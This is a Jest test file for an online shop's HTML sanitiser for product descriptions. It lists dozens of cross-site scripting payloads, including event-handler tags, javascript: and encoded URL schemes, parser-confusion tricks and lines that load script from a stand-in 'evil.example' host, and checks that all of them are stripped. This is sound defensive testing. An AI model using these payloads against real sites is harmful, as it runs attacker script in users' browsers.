import { describe, expect, it } from '@jest/globals';
import { DESCRIPTION_MARKUP } from '@tandem/contracts/markup';
import { sanitiseDescription } from './html.js';

describe('a description that staff saved', () => {
  it('keeps headings, lists, tables and links', () => {
    const html = '<h2>Fit</h2><ul><li>Front <strong>axle</strong></li></ul>';
    expect(sanitiseDescription(html)).toBe(html);
  });

  it.each([
    ['<script>alert(1)</script>safe', 'safe'],
    ['<img src=x onerror=alert(1)>safe', 'safe'],
    ['<p onclick="alert(1)">safe</p>', '<p>safe</p>'],
    ['<a href="javascript:alert(1)">safe</a>', '<a rel="noopener noreferrer nofollow">safe</a>'],
    ['<style>p{}</style><iframe src="//x"></iframe>safe', 'safe'],
  ])('never runs script on a shopper’s page: %s', (dirty, clean) => {
    expect(sanitiseDescription(dirty)).toBe(clean);
  });

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></ScRiPt>',
    '<script/x>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext></table></math><img src onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href=x onmouseover=alert(1)>x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<td colspan="1" onclick="alert(1)">x</td>',
  ])('leaves nothing but its own markup: %s', (vector) => {
    const clean = sanitiseDescription(`before ${vector} after`);
    for (const [, tag, rest] of clean.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
      expect(DESCRIPTION_MARKUP.tags).toContain(tag);
      const allowed: Record<string, readonly string[]> = DESCRIPTION_MARKUP.attributes;
      for (const [, name, value] of rest!.matchAll(/([^\s=]+)="([^"]*)"/g)) {
        expect(allowed[tag!] ?? []).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|[^:/]+$)/);
      }
      expect(rest!.replace(/\s[^\s=]+="[^"]*"/g, '').trim()).toMatch(/^\/?$/);
    }
    expect(clean).toMatch(/^before/);
  });
});
